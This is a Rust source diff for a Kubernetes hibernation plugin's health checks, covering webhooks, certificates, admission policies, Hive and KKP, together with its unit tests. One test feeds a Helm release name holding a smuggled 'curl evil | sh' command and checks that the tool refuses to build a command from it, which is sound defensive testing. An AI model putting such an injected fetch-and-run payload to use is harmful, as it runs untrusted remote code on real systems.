@@ -3,14 +3,15 @@
 use serde_json::Value;
 use shared::annotation::keys;
 use shared::rollout::admission::{POLICY, policy};
+use shared::target::FOUNDATIONDB_CLUSTER;
 use shared::text::list;
 
 use super::certificate::{Distrust, bytes, verify};
-use super::finding::{CheckResult, Finding};
+use super::finding::{CheckResult, Finding, Status};
 use super::hub::{Facts, POWER_ROLLOUT_DEFINITION, SECRET, kustomize};
 use crate::api::error::HubError;
 use crate::api::{name_of, text};
-use crate::read::installation::{HIBERNATION, held, is_disabled};
+use crate::read::installation::{held, is_disabled};
 
 /// This program's version, which is that of the manifests beside it.
 const VERSION: &str = env!("CARGO_PKG_VERSION");
@@ -24,6 +25,9 @@ const CONFINED: [(&str, &str); 5] = [
     ("hibernate-controller-openstack", "hibernate-controller-openstack"),
     ("hibernate-webhook", "hibernate-webhook-ca-bundle-only"),
 ];
+
+/// The policy of the overlay policy-only.
+pub(super) const POLICY_ONLY: &str = "clusterdeployments.hibernate.sh";
 
 /// A result; none where there is nothing to check; or why the hub did not answer.
 type Checked<'a> = Result<Option<CheckResult>, &'a HubError>;
@@ -50,6 +54,10 @@ const CHECKS: [(&str, Check); 11] = [
 pub(super) fn findings(facts: &Facts) -> Vec<Finding> {
     let absent = |found: &Result<Option<Value>, _>| matches!(found, Ok(None));
     if absent(&facts.definition) && facts.rules.iter().all(absent) {
+        let policies = facts.policies.iter().flatten().flatten();
+        if policies.into_iter().any(|policy| name_of(policy) == POLICY_ONLY) {
+            return vec![Finding::new("policies", CheckResult::ok("policies alone, without webhook and controller"))];
+        }
         let detail = "kubectl-hibernate is not installed on the hub";
         return vec![Finding::new("installed", CheckResult::failed(detail, kustomize("")))];
     }
@@ -64,6 +72,13 @@ pub(super) fn findings(facts: &Facts) -> Vec<Finding> {
 #[expect(clippy::unnecessary_wraps, reason = "the form of a check")]
 fn done<'a>(result: CheckResult) -> Checked<'a> {
     Ok(Some(result))
+}
+
+/// A failure that another application of the manifests fixes.
+fn reinstall<'a>(facts: &Facts, detail: &str) -> Checked<'a> {
+    let command = facts.install("");
+    let advice = if command.is_empty() { ": apply your manifests again" } else { "" };
+    done(CheckResult::failed(format!("{detail}{advice}"), command))
 }
 
 /// `kubectl rollout restart` of one of our Deployments.
@@ -86,24 +101,24 @@ fn versions(facts: &Facts) -> Checked<'_> {
     let (definition, deployments) = (facts.definition.as_ref()?, facts.deployments.as_ref()?);
     let Some(definition) = definition else {
         let detail = format!("CustomResourceDefinition {POWER_ROLLOUT_DEFINITION} is missing: there are no rollouts");
-        return done(CheckResult::failed(detail, facts.install()));
+        return reinstall(facts, &detail);
     };
     let objects = deployments.iter().chain([definition]);
     let version = |object| match text(object, "/metadata/labels/app.kubernetes.io~1version") {
-        "" => "of no version".to_owned(),
+        "" => "unlabeled".to_owned(),
         version => format!("v{version}"),
     };
     let found: Vec<(String, String)> = objects.map(|one| (name_of(one).to_owned(), version(one))).collect();
     let all = list(found.iter().map(|(name, version)| format!("{name} is {version}")));
     let Some((_, hub)) = found.first().filter(|(_, first)| found.iter().all(|(_, version)| version == first)) else {
-        return done(CheckResult::failed(format!("versions differ: {all}"), facts.install()));
+        return reinstall(facts, &format!("versions differ: {all}"));
     };
     if *hub == format!("v{VERSION}") {
         return done(CheckResult::ok(format!("v{VERSION} here and on the hub")));
     }
     let numbers = |version: &str| version.split('.').map(|part| part.parse().unwrap_or(0)).collect::<Vec<u64>>();
     let is_newer = numbers(hub.trim_start_matches('v')) > numbers(VERSION);
-    let command = if is_newer { "kubectl krew upgrade hibernate".to_owned() } else { facts.install() };
+    let command = if is_newer { "kubectl krew upgrade hibernate".to_owned() } else { facts.install("") };
     done(CheckResult::warning(format!("the plugin is v{VERSION}, the hub has {hub}"), command))
 }
 
@@ -117,29 +132,36 @@ fn blocked(entry: &Value) -> Option<String> {
 }
 
 fn rules(facts: &Facts) -> Checked<'_> {
-    let [validating, mutating] = &facts.rules;
-    let (Some(validating), Some(mutating)) = (validating.as_ref()?, mutating.as_ref()?) else {
-        let detail = format!(
-            "ValidatingWebhookConfiguration or MutatingWebhookConfiguration {} is missing: no request is checked",
-            keys::WEBHOOK
-        );
-        return done(CheckResult::failed(detail, facts.install()));
-    };
-    let all: Vec<&Value> = [validating, mutating].into_iter().flat_map(|rules| items(rules, "/webhooks")).collect();
-    let blocked: Vec<String> = all.iter().copied().filter_map(blocked).collect();
-    if !is_abandoned(facts) {
-        return done(CheckResult::ok(format!("{} rules, {} of them fail closed", all.len(), blocked.len())));
-    }
     facts.service.as_ref()?;
-    let detail = format!(
-        "Service {} in namespace {} is gone and its rules are not: the API server refuses {}",
-        keys::WEBHOOK,
-        facts.namespace,
-        list(blocked)
-    );
-    let delete =
-        format!("kubectl delete validatingwebhookconfiguration,mutatingwebhookconfiguration {}", keys::WEBHOOK);
-    done(CheckResult::failed(detail, delete))
+    let [validating, mutating] = &facts.rules;
+    let found = [validating.as_ref()?, mutating.as_ref()?];
+    let all: Vec<&Value> = found.into_iter().flatten().flat_map(|rules| items(rules, "/webhooks")).collect();
+    let blocked: Vec<String> = all.iter().copied().filter_map(blocked).collect();
+    let name = keys::WEBHOOK;
+    if is_abandoned(facts) {
+        let volumes = all.iter().any(|rule| text(rule, "/name") == "suspend.hibernate.sh");
+        let first = if volumes {
+            ", or, as the operator then deletes suspended FoundationDB volumes, run `check --before-uninstall` first"
+        } else {
+            ""
+        };
+        let detail = format!(
+            "Service {name} in namespace {} is gone and its rules are not: the API server refuses {}. To keep the product, install it again{first}",
+            facts.namespace,
+            list(blocked)
+        );
+        let delete = format!(
+            "kubectl delete validatingwebhookconfiguration,mutatingwebhookconfiguration {name} --ignore-not-found"
+        );
+        return done(CheckResult::failed(detail, delete));
+    }
+    if found.iter().any(|rules| rules.is_none()) {
+        let detail = format!(
+            "ValidatingWebhookConfiguration or MutatingWebhookConfiguration {name} is missing: requests are not checked"
+        );
+        return reinstall(facts, &detail);
+    }
+    done(CheckResult::ok(format!("{} rules, {} of them fail closed", all.len(), blocked.len())))
 }
 
 fn pods(facts: &Facts) -> Checked<'_> {
@@ -149,10 +171,7 @@ fn pods(facts: &Facts) -> Checked<'_> {
         return Ok(None);
     }
     if facts.deployment(name).is_none() {
-        return done(CheckResult::failed(
-            format!("Deployment {name} in namespace {namespace} is missing"),
-            facts.install(),
-        ));
+        return reinstall(facts, &format!("Deployment {name} in namespace {namespace} is missing"));
     }
     let is_ready = |endpoint: &&Value| endpoint.pointer("/conditions/ready") != Some(&Value::Bool(false));
     let ready = endpoints.iter().flat_map(|slice| items(slice, "/endpoints")).filter(is_ready).count();
@@ -193,17 +212,17 @@ fn ca_bundle(facts: &Facts) -> Checked<'_> {
     let rules = [validating.as_ref()?, mutating.as_ref()?];
     let Some(chain) = chain(facts)? else { return Ok(None) };
     if matches!(facts.secret, Ok(None)) {
-        return done(CheckResult::failed(format!("{secret} is missing"), facts.install()));
+        return reinstall(facts, &format!("{secret} is missing"));
     }
     if chain.is_empty() {
-        let detail = format!("{secret} is empty: a webhook that runs fills it");
+        let detail = format!("{secret} is empty: a running webhook populates it");
         return done(CheckResult::failed(detail, restart));
     }
     for entry in rules.into_iter().flatten().flat_map(|rules| items(rules, "/webhooks")) {
         let bundle = bytes(entry.pointer("/clientConfig/caBundle"));
         if let Err(Distrust::Other(why)) = verify(&bundle, &chain, &host(entry), facts.now) {
             let name = text(entry, "/name");
-            let detail = format!("caBundle of {name} does not fit the certificate in {secret}: {why}");
+            let detail = format!("caBundle of {name} does not match the certificate in {secret}: {why}");
             return done(CheckResult::failed(detail, restart));
         }
     }
@@ -221,7 +240,7 @@ fn certificate(facts: &Facts) -> Checked<'_> {
         Ok(()) => done(CheckResult::ok(format!("valid for {DAYS_LEFT} days at least"))),
         Err(Distrust::Expired(end)) => {
             let end = end.map(|end| format!(" at {end}")).unwrap_or_default();
-            let detail = format!("the webhook's certificate ends{end}: a webhook that runs renews it earlier");
+            let detail = format!("the webhook's certificate expires{end}: a running webhook renews it earlier");
             done(CheckResult::failed(detail, restart(facts, keys::WEBHOOK)))
         }
         // The check of the bundles names it.
@@ -233,35 +252,52 @@ fn answers(facts: &Facts) -> Checked<'_> {
     match &facts.trial {
         _ if is_abandoned(facts) => Ok(None),
         Err(error @ HubError::Refused { .. }) if error.webhook().is_some_and(|name| name.ends_with(keys::GROUP)) => {
-            done(CheckResult::ok("refuses a dry run as it must"))
+            done(CheckResult::ok("rejected the test request, as expected"))
         }
         Err(error @ HubError::WebhookDown { .. }) => {
             done(CheckResult::failed(error.to_string(), restart(facts, keys::WEBHOOK)))
         }
         Err(HubError::NoKind(_)) => Ok(None), // the versions name it
+        // You may not patch clusters where the test request names one (R1).
+        Err(error @ HubError::Refused { by, .. }) if by.contains(POLICY) => {
+            done(CheckResult { status: Status::NotChecked, ..CheckResult::ok(error.to_string()) })
+        }
         Err(error) => Err(error),
-        Ok(_) => done(CheckResult::failed("no webhook judged a dry run that it must refuse", facts.install())),
+        Ok(_) => reinstall(facts, "no webhook rejected the test request"),
     }
 }
 
 fn policies(facts: &Facts) -> Checked<'_> {
     let (roles, policies, bindings) = (facts.roles.as_ref()?, facts.policies.as_ref()?, facts.bindings.as_ref()?);
-    let named = |objects: &'_ [Value], name: &str| objects.iter().find(|object| name_of(object) == name).cloned();
-    let typed = |object: Option<Value>| object.and_then(|object| serde_json::from_value(object).ok());
-    let read = |object: Option<Value>| object.and_then(|object| serde_json::from_value(object).ok());
-    if let Some(why) = policy().differs(typed(named(policies, POLICY)).as_ref(), read(named(bindings, POLICY)).as_ref())
-    {
-        return done(CheckResult::failed(format!("{why}: until then no rollout starts"), facts.install()));
+    let Some(policies) = policies else {
+        let detail = "Kubernetes before 1.30 has no ValidatingAdmissionPolicies: RBAC alone confines the programs, and no rollout starts";
+        return done(CheckResult::warning(detail, ""));
+    };
+    let find = |objects: &[Value], name: &str| objects.iter().find(|object| name_of(object) == name).cloned();
+    let guard = find(policies, POLICY).and_then(|object| serde_json::from_value(object).ok());
+    let bound = find(bindings, POLICY).and_then(|object| serde_json::from_value(object).ok());
+    if let Some(why) = policy().differs(guard.as_ref(), bound.as_ref()) {
+        return reinstall(facts, &format!("{why}: until then no rollout starts"));
     }
     let denies = |binding: &Value| items(binding, "/spec/validationActions").any(|action| action == "Deny");
-    for (role, policy) in CONFINED.into_iter().filter(|(role, _)| named(roles, role).is_some()) {
-        let missing = match (named(policies, policy), named(bindings, policy)) {
+    let account = format!("system:serviceaccount:{}:", facts.namespace);
+    for (role, name) in CONFINED.into_iter().filter(|(role, _)| find(roles, role).is_some()) {
+        let missing = match (find(policies, name), find(bindings, name)) {
+            (None, None) if role == keys::WEBHOOK => {
+                let detail = format!("nothing confines ClusterRole {role}: component ca-bundle-only is not installed");
+                return done(CheckResult::warning(detail, ""));
+            }
             (None, _) => "ValidatingAdmissionPolicy",
+            (Some(policy), _) if !policy["spec"]["matchConditions"].to_string().contains(&account) => {
+                return reinstall(
+                    facts,
+                    &format!("policy {name} is not about the accounts of namespace {}", facts.namespace),
+                );
+            }
             (_, Some(binding)) if denies(&binding) => continue,
             _ => "ValidatingAdmissionPolicyBinding (with Deny)",
         };
-        let detail = format!("{missing} {policy} is missing: nothing confines ClusterRole {role}");
-        return done(CheckResult::failed(detail, facts.install()));
+        return reinstall(facts, &format!("{missing} {name} is missing: nothing confines ClusterRole {role}"));
     }
     done(CheckResult::ok(format!("{} policies, each with its binding", policies.len())))
 }
@@ -271,10 +307,12 @@ fn controller_lease(facts: &Facts) -> Checked<'_> {
     if is_abandoned(facts) || facts.deployment(keys::CONTROLLER).is_some() && facts.replicas(keys::CONTROLLER) == 0 {
         return Ok(None);
     }
-    let what = format!("the Lease {} in namespace {}", keys::CONTROLLER, facts.namespace);
-    let Some(lease) = lease else {
-        return done(CheckResult::failed(format!("{what} is missing: no controller runs"), facts.install()));
-    };
+    let (name, namespace) = (keys::CONTROLLER, &facts.namespace);
+    if facts.deployment(name).is_none() {
+        return reinstall(facts, &format!("Deployment {name} in namespace {namespace} is missing"));
+    }
+    let what = format!("the Lease {name} in namespace {namespace}");
+    let Some(lease) = lease else { return reinstall(facts, &format!("{what} is missing: no controller runs")) };
     match held(lease, facts.now) {
         Ok(()) => done(CheckResult::ok(format!("held by {}", text(lease, "/spec/holderIdentity")))),
         Err(why) => {
@@ -288,21 +326,24 @@ fn hive(facts: &Facts) -> Checked<'_> {
     facts.deployments.as_ref()?;
     let Some(config) = facts.hive.as_ref()? else { return Ok(None) };
     let served = facts.argument(keys::WEBHOOK, "--served-platforms");
+    let cut_over =
+        || facts.install_overlay("overlays/cut-over", "servedPlatforms={aws\\,openstack},controller.replicas=2");
     let result = match (is_disabled(config), facts.replicas(keys::CONTROLLER) > 0, served) {
-        (false, true, _) => {
-            CheckResult::failed("Hive's own hibernation controller and hibernate-controller both run", disable(config))
-        }
+        (false, true, _) => CheckResult::failed(
+            "Hive's own hibernation controller and hibernate-controller both run: stop ours, or cut over (docs/hive.md)",
+            stop(&facts.namespace),
+        ),
         (true, false, _) => CheckResult::failed(
-            "Hive's own hibernation controller is off and hibernate-controller does not run: no cluster sleeps or wakes",
-            kustomize("overlays/cut-over"),
+            "neither Hive's own hibernation controller nor hibernate-controller runs: no cluster sleeps or wakes (docs/hive.md, Cut over)",
+            cut_over(),
         ),
         (true, true, None) => CheckResult::failed(
-            "Hive's own hibernation controller is off, and the webhook still accepts the platforms that only Hive serves",
-            kustomize("overlays/cut-over"),
+            "Hive's own hibernation controller is off, and the webhook still accepts platforms that only Hive serves (docs/hive.md, Cut over)",
+            cut_over(),
         ),
         (false, false, Some(_)) => CheckResult::warning(
-            "Hive's own hibernation controller runs, and the webhook refuses platforms that Hive serves",
-            kustomize("overlays/webhook-only"),
+            "Hive's own hibernation controller runs, and the webhook rejects platforms that Hive serves (docs/hive.md, Cut back)",
+            facts.install_overlay("overlays/webhook-only", "servedPlatforms=null"),
         ),
         (true, true, Some(served)) => CheckResult::ok(format!("hibernate-controller serves {served}")),
         (false, false, None) => {
@@ -312,29 +353,27 @@ fn hive(facts: &Facts) -> Checked<'_> {
     done(result)
 }
 
-/// The command that switches Hive's own controller off, beside those that are off already.
-pub(super) fn disable(config: &Value) -> String {
-    let disabled = items(config, "/spec/disabledControllers").cloned();
-    let disabled: Vec<Value> = disabled.chain([HIBERNATION.into()]).collect();
-    let patch = serde_json::json!({ "spec": { "disabledControllers": disabled } });
-    format!("kubectl patch hiveconfig hive --type=merge -p {}", shared::text::quoted(&patch.to_string()))
+/// The command that stops our controller.
+pub(super) fn stop(namespace: &str) -> String {
+    format!("kubectl scale deployment {} -n {namespace} --replicas=0", keys::CONTROLLER)
 }
 
 fn kkp(facts: &Facts) -> Checked<'_> {
     facts.deployments.as_ref()?;
-    let is_served = facts.groups.iter().any(|group| group == "kubermatic.k8c.io");
     let has_rule = |rules: &Value| items(rules, "/webhooks").any(|entry| text(entry, "/name").contains("kkp"));
-    match (is_served, facts.argument(keys::CONTROLLER, "--kkp").is_some()) {
-        _ if is_abandoned(facts) => Ok(None),
-        (false, _) => Ok(None),
-        (true, true) if facts.rules.iter().flatten().flatten().any(has_rule) => {
-            done(CheckResult::ok("the controller serves KKP's Clusters, the webhook guards them"))
-        }
-        (true, _) => done(CheckResult::warning(
-            "the hub has KKP's Clusters, and the installation is without the component kkp: none of them sleeps",
-            kustomize("overlays/kkp"),
-        )),
+    if is_abandoned(facts) || !facts.has_user_clusters {
+        return Ok(None);
     }
+    if facts.argument(keys::CONTROLLER, "--kkp").is_some() && facts.rules.iter().flatten().flatten().any(has_rule) {
+        return done(CheckResult::ok("the controller serves KKP's Clusters, the webhook guards them"));
+    }
+    // The overlay has no guard of FoundationDB's volumes.
+    let has_databases = facts.groups.iter().any(|group| group == FOUNDATIONDB_CLUSTER.kind.group);
+    let command =
+        if has_databases { String::new() } else { facts.install_overlay("overlays/kkp", "components.kkp=true") };
+    let detail =
+        "the hub has KKP's Clusters, and the component kkp is not installed: none of them sleeps (docs/kkp.md)";
+    done(CheckResult::warning(detail, command))
 }
 
 fn talm(facts: &Facts) -> Checked<'_> {
@@ -359,9 +398,11 @@ mod tests {
         let deployment = |name: &str, replicas: &Value, args: &Value| {
             json!({
                 "metadata": { "name": name, "labels": { "app.kubernetes.io/version": VERSION } },
-                "spec": { "replicas": replicas, "template": { "spec": { "containers": [{ "args": args }] } } },
+                "spec": { "replicas": replicas, "template": { "spec": {
+                    "containers": [{ "args": args, "image": format!("{name}:v{VERSION}") }] } } },
             })
         };
+        let named = |name: &str| json!({ "metadata": { "name": name } });
         Facts {
             now: Timestamp::UNIX_EPOCH,
             namespace: keys::NAMESPACE.to_owned(),
@@ -372,8 +413,9 @@ mod tests {
                 deployment(keys::CONTROLLER, controller, &json!([])),
                 deployment(keys::WEBHOOK, &json!(2), webhook),
             ]),
-            roles: Ok(Vec::new()),
-            policies: Ok(Vec::new()),
+            roles: Ok(vec![named("hibernate-controller-fdb")]),
+            role_bindings: Ok(vec![named("hibernate-controller-secrets")]),
+            policies: Ok(Some(Vec::new())),
             bindings: Ok(Vec::new()),
             service: Ok(None),
             endpoints: Ok(Vec::new()),
@@ -381,6 +423,7 @@ mod tests {
             lease: Ok(None),
             talm: Ok(None),
             hive: Ok(None),
+            has_user_clusters: false,
             trial: Ok(Value::Null),
         }
     }
@@ -389,8 +432,8 @@ mod tests {
     fn one_controller_hibernates_the_clusters_of_a_hub() {
         let (all, ours) = (json!([]), json!(["--served-platforms=aws,openstack"]));
         for (off, replicas, webhook, expected, overlay) in [
-            (false, 2, &all, Failed, "kubectl patch hiveconfig hive"),
-            (false, 2, &ours, Failed, "kubectl patch hiveconfig hive"),
+            (false, 2, &all, Failed, "kubectl scale deployment hibernate-controller -n hibernate-system --replicas=0"),
+            (false, 2, &ours, Failed, "kubectl scale deployment hibernate-controller -n hibernate-system --replicas=0"),
             (true, 0, &all, Failed, "manifests/overlays/cut-over"),
             (true, 0, &ours, Failed, "manifests/overlays/cut-over"),
             (true, 2, &all, Failed, "manifests/overlays/cut-over"),
@@ -399,7 +442,7 @@ mod tests {
             (false, 0, &all, Fine, ""),
         ] {
             let mut facts = facts(&json!(replicas), webhook);
-            let disabled = if off { json!([HIBERNATION]) } else { json!(["clusterpool"]) };
+            let disabled = if off { json!(["hibernation"]) } else { json!(["clusterpool"]) };
             facts.hive = Ok(Some(json!({ "spec": { "disabledControllers": disabled } })));
             let found = hive(&facts).unwrap().unwrap();
             assert_eq!(found.status, expected, "{off} {replicas} {webhook}");
@@ -409,23 +452,53 @@ mod tests {
     }
 
     #[test]
-    fn what_runs_is_installed_again_as_it_is() {
-        let (kkp, ours) = (json!(["--kkp"]), json!(["--served-platforms=aws"]));
-        let mut of_helm = facts(&json!(2), &json!([]));
-        for deployment in of_helm.deployments.as_mut().unwrap() {
-            deployment["metadata"]["annotations"] =
-                json!({ "meta.helm.sh/release-name": "sleep", "meta.helm.sh/release-namespace": "ops" });
-        }
-        let mut seed = facts(&json!(2), &json!([]));
-        seed.deployments.as_mut().unwrap()[0]["spec"]["template"]["spec"]["containers"][0]["args"] = kkp;
-        for (facts, expected) in [
-            (facts(&json!(2), &json!([])), "kubectl apply -k manifests/"),
-            (facts(&json!(2), &ours), "kubectl apply -k manifests/overlays/cut-over"),
-            (facts(&json!(0), &json!([])), "kubectl apply -k manifests/overlays/webhook-only"),
-            (seed, "kubectl apply -k manifests/overlays/kkp"),
-            (of_helm, "helm upgrade sleep charts/hibernate --namespace ops --reuse-values"),
+    fn what_runs_is_installed_again_as_it_is_or_by_whoever_knows_how() {
+        let with = |change: &dyn Fn(&mut Facts)| {
+            let mut facts = facts(&json!(2), &json!([]));
+            change(&mut facts);
+            facts.install("a=b")
+        };
+        let of = |facts: &mut Facts, at: usize, path: &str, value: Value| {
+            *facts.deployments.as_mut().unwrap()[at].pointer_mut(path).unwrap() = value;
+        };
+        let args = "/spec/template/spec/containers/0/args";
+        let helm = |release: &str| {
+            let notes = json!({ "meta.helm.sh/release-name": release, "meta.helm.sh/release-namespace": "ops" });
+            with(&|facts| of(facts, 1, "/metadata", json!({ "name": keys::WEBHOOK, "annotations": notes })))
+        };
+        let labeled =
+            json!({ "webhooks": [{ "name": "suspend.hibernate.sh", "namespaceSelector": { "matchLabels": {} } }] });
+        for (found, expected) in [
+            (with(&|_| {}), "kubectl apply -k manifests/"),
+            (
+                with(&|facts| of(facts, 1, args, json!(["--served-platforms=aws"]))),
+                "kubectl apply -k manifests/overlays/cut-over",
+            ),
+            (
+                with(&|facts| of(facts, 0, "/spec/replicas", json!(0))),
+                "kubectl apply -k manifests/overlays/webhook-only",
+            ),
+            (
+                with(&|facts| facts.rules[0] = Ok(Some(labeled.clone()))),
+                "kubectl apply -k manifests/overlays/labeled-databases",
+            ),
+            (
+                with(&|facts| {
+                    of(facts, 0, args, json!(["--kkp"]));
+                    (facts.roles, facts.role_bindings) = (Ok(Vec::new()), Ok(Vec::new()));
+                }),
+                "kubectl apply -k manifests/overlays/kkp",
+            ),
+            (helm("sleep"), "helm upgrade sleep charts/hibernate --namespace ops --reset-then-reuse-values --set a=b"),
+            (helm("x; curl evil | sh #"), "kubectl apply -k manifests/"),
+            // Only the owner knows the rest.
+            (with(&|facts| facts.namespace = "sleep".to_owned()), ""),
+            (with(&|facts| of(facts, 1, "/spec/template/spec/containers/0/image", json!("r.example.com/x:v1"))), ""),
+            (with(&|facts| of(facts, 0, args, json!(["--cgu"]))), ""),
+            (with(&|facts| facts.role_bindings = Ok(Vec::new())), ""),
+            (with(&|facts| facts.deployments = Ok(Vec::new())), ""),
         ] {
-            assert_eq!(facts.install(), expected);
+            assert_eq!(found, expected);
         }
     }
 
@@ -436,6 +509,7 @@ mod tests {
         let mut facts = facts(&json!(2), &json!([]));
         facts.rules = [Err(forbidden()), Err(forbidden())];
         (facts.definition, facts.roles, facts.secret) = (Err(forbidden()), Err(forbidden()), Err(forbidden()));
+        facts.service = Err(forbidden());
         (facts.deployments, facts.lease, facts.trial) = (Err(forbidden()), Err(forbidden()), Err(forbidden()));
         let statuses: Vec<Status> = CHECKS
             .iter()
@@ -445,6 +519,6 @@ mod tests {
             })
             .collect();
         assert!(statuses.iter().all(|status| *status == Status::NotChecked), "{statuses:?}");
-        assert_eq!(statuses.len(), 10, "TALM's Lease is read only where upgrades are ours");
+        assert_eq!(statuses.len(), 9, "TALM's Lease is read only where upgrades are ours, the Service by all");
     }
 }
